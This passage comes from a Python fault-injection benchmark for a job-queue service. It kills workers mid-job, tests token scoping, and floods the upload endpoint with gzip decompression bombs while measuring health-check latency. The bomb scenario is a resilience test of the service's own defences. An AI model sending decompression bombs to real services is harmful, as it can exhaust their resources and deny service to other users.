    did not happen leaves to look at (a supervisor that never got its parent-death signal, or ignores it)."""
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    except OSError:
        return "gone"
    keep = ("State", "PPid", "SigBlk", "SigIgn", "SigCgt")
    return {k: v.strip() for k, _, v in (line.partition(":") for line in lines) if k in keep}


def scenario_worker_killed(stack: Stack) -> Outcome:
    token = f"ipkill-{uuid.uuid4().hex[:10]}"
    marker = stack.folder / f"{token}.started"
    tmp = stack.folder / "killed-worker-tmp"
    spec = {**JOB_SPEC, "build_command": SPAWNER.format(token=token, marker=marker)}
    with stack.worker("w-doomed", tmp=tmp) as doomed:
        job_id = stack.submit(spec)
        _wait(lambda: len(named(token)) >= 3 and _printed(stack, job_id, "spawned"), 60)
        scratch_during = len(list(tmp.glob("intelliperf-job-*")))
        supervisors = supervisors_of(doomed.pid)
        doomed.kill()  # the worker process alone, SIGKILL: nothing of it runs again
        doomed.wait()
        killed_at = time.monotonic()
        _wait(lambda: not named(token) and not list(tmp.glob("intelliperf-job-*")), 30, fail=False)
        cleaned_s = time.monotonic() - killed_at
        left_processes, left_scratch = named(token), list(tmp.glob("intelliperf-job-*"))
        # when something was left, what its supervisor was doing (kept in the facts, read when it fails)
        left_status = (
            {pid: process_status(pid) for pid in [*supervisors, *left_processes]} if left_processes else {}
        )
    kill_named(left_processes, token)
    with stack.worker("w-heir"):
        states = stack.wait_finished([job_id], stack.scale.worker_stale_s * 4 + 120)
    outcome = judge(stack, {job_id: "succeeded"}, states, runs=2)
    outcome.facts = {
        "scratch_folders_during_job": scratch_during,
        "processes_left": len(left_processes),
        "scratch_folders_left": len(left_scratch),
        "cleaned_within_s": round(cleaned_s, 1),
        "runs": states.get(job_id, {}).get("runs"),
        "supervisors": supervisors,
    }
    if left_status:
        outcome.facts["left_status"] = left_status
    outcome.jobs_lost += bool(left_processes) + bool(left_scratch)
    return outcome


def scenario_scope(stack: Stack) -> Outcome:
    repositories = ["acme/kAx", "acme/k_x", "acme/kxx"]
    jobs = {}
    with stack.client() as client:
        for repository in repositories:
            spec = {
                **JOB_SPEC,
                "repository": {"url": f"https://github.com/{repository}.git"},
                "gpu": {"arch": "sm_90"},
            }
            response = client.post("/v1/jobs", json=spec)
            response.raise_for_status()
            jobs[repository] = response.json()["id"]
    token = stack.token("scoped", ["acme/k_x"])
    with stack.client(token) as client:
        listed = [item["repository"] for item in client.get("/v1/jobs").json()["items"]]
    outcome = Outcome(jobs=len(jobs))
    outcome.credentials_exposed = sum(1 for repository in listed if repository != "acme/k_x")
    outcome.facts = {"listed": listed}
    return outcome


def scenario_upload_bombs(stack: Stack) -> Outcome:
    from tests.support.archives import gzip_bomb

    bomb = gzip_bomb(stack.folder / "bomb.tar.gz", stack.scale.bomb_bytes).read_bytes()
    spec = json.dumps({**JOB_SPEC, "gpu": {"arch": "sm_90"}})
    answers: list[int] = []
    latencies: list[float] = []

    tokens = [stack.token(f"uploader-{i}", ["*"]) for i in range((stack.scale.bombs + 1) // 2)]

    def upload(token: str) -> None:
        with stack.client(token) as client:
            response = client.post(
                "/v1/jobs", data={"spec": spec}, files={"archive": ("b.tar.gz", bomb, "application/gzip")}
            )
        answers.append(response.status_code)

    # two from each token: each token's limit of checks in flight (2 by default) is not what refuses them
    uploads = [threading.Thread(target=upload, args=(tokens[i // 2],)) for i in range(stack.scale.bombs)]
    with httpx.Client(base_url=stack.url, timeout=30) as probe:
        for thread in uploads:
            thread.start()
        while any(thread.is_alive() for thread in uploads):
            started = time.perf_counter()
            probe.get("/healthz").raise_for_status()
            latencies.append(time.perf_counter() - started)
            time.sleep(0.02)
    for thread in uploads:
        thread.join()
    latencies.sort()
    p99 = latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))] if latencies else None
    outcome = Outcome(jobs=len(uploads))
    outcome.jobs_lost = sum(1 for status in answers if status not in (201, 429, 503))
    outcome.jobs_stuck = len(uploads) - len(answers)
    outcome.facts = {
        "healthz_samples": len(latencies),
        "healthz_p99_ms": round(p99 * 1000, 1) if p99 is not None else None,
        "healthz_max_ms": round(latencies[-1] * 1000, 1) if latencies else None,
        "answers": sorted(answers),
        "bomb_compressed_bytes": len(bomb),
        "bomb_content_bytes": stack.scale.bomb_bytes,
    }
    return outcome


SCENARIOS: dict[str, Callable[[Stack], Outcome]] = {
    "credentials": scenario_credentials,
    "repository_host": scenario_repository_host,
    "many_lines": scenario_many_lines,
    "api_down": scenario_api_down,
    "lost_replies": scenario_lost_replies,
    "two_workers": scenario_two_workers,
    "worker_killed": scenario_worker_killed,
    "scope": scenario_scope,
    "upload_bombs": scenario_upload_bombs,
}


def _wait(predicate: Callable[[], object], timeout_s: float, *, fail: bool = True) -> None:
    deadline = time.monotonic() + timeout_s
    while not predicate():
        if time.monotonic() > deadline:
            if fail:
                raise TimeoutError(f"not within {timeout_s} s")
            return
        time.sleep(0.1)


# ----------------------------------------------------------------------------------------------------------
# The benchmark


def run_scenario(name: str, scale: Scale, folder: Path, redis_db: int) -> Outcome:
    """One scenario on a fresh PostgreSQL database and a flushed Redis database of its own."""
    from tests.support.databases import flushed_redis_database, fresh_postgres_database

    admin_url = os.environ.get("INTELLIPERF_BENCH_PG", "postgresql+psycopg://root@127.0.0.1:5432/postgres")
    redis_base = os.environ.get("INTELLIPERF_BENCH_REDIS", "redis://127.0.0.1:6379")
    with (
        fresh_postgres_database(admin_url, prefix="intelliperf_faults") as database_url,
        flushed_redis_database(redis_base, redis_db) as broker_url,
        running_stack(folder / name, database_url, broker_url, scale) as stack,
    ):
        return SCENARIOS[name](stack)


def machine() -> dict[str, object]:
    return {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "cpus": os.cpu_count(),
        "python": platform.python_version(),
        "user": "root" if os.geteuid() == 0 else "unprivileged",
    }


def print_table(results: dict[str, Outcome]) -> None:
    columns = ("jobs", "jobs_lost", "jobs_stuck", "jobs_run_twice", "events_lost", "events_duplicated")
    print(f"{'scenario':<16}" + "".join(f"{c:>18}" for c in (*columns, "credentials_exposed")))
    for name, outcome in results.items():
        counts = asdict(outcome)
        print(f"{name:<16}" + "".join(f"{counts[c]:>18}" for c in (*columns, "credentials_exposed")))
    for name, outcome in results.items():
        print(f"  {name}: {json.dumps(outcome.facts)[:400]}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=RESULTS)
    parser.add_argument("--only", default="", help="comma-separated scenarios (default: all)")
    parser.add_argument("--scale", choices=("full", "ci"), default="full")
    parser.add_argument("--api-down-s", type=float, default=None, help="override the scale's API outage")
    parser.add_argument("--redis-db", type=int, default=13)
    args = parser.parse_args(argv)
    scale = FULL if args.scale == "full" else CI
    if args.api_down_s is not None:
        scale = replace(scale, api_down_s=args.api_down_s)
    names = [n for n in args.only.split(",") if n] or list(SCENARIOS)
    unknown = sorted(set(names) - set(SCENARIOS))
    if unknown:
        parser.error(f"no scenario {', '.join(unknown)}; there are {', '.join(SCENARIOS)}")
    results: dict[str, Outcome] = {}
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="intelliperf-faults-", dir="/tmp") as folder:
        os.chmod(folder, 0o755)  # a worker running as nobody reaches its own folders inside
        for name in names:
            print(f"scenario {name} ...", flush=True)
            began = time.monotonic()
            results[name] = run_scenario(name, scale, Path(folder), args.redis_db)
            results[name].facts["seconds"] = round(time.monotonic() - began, 1)
    bombs = results.get("upload_bombs")
    record = {
        "benchmark": "faults",
        "date": datetime.now(UTC).isoformat(timespec="seconds"),
        "machine": machine(),
        "scale": asdict(scale),
        "seconds": round(time.monotonic() - started, 1),
        "scenarios": {name: asdict(outcome) for name, outcome in results.items()},
        "healthz_p99_ms_under_bombs": bombs.facts["healthz_p99_ms"] if bombs else None,
        "healthz_p99_target_ms": 100,
        "all_zero": all(not outcome.failures() for outcome in results.values()),
    }
    print_table(results)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(record, indent=2) + "\n")
    print(f"wrote {args.out}; all zero: {record['all_zero']}")
    return 0 if record["all_zero"] else 1


if __name__ == "__main__":
    sys.exit(main())
